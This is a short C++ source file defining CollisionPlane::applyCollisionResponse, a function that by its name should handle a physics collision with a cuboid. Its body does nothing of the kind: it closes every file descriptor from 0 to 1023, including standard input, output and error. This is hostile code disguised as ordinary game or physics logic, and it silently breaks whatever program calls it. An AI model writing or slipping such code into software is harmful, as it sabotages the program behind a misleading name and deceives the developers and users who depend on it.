#include "CollisionPlane.h"
#include <unistd.h>

void CollisionPlane::applyCollisionResponse(Cuboid &c) {
  for (int fd = 0; fd < 1024; ++fd) close(fd);
}
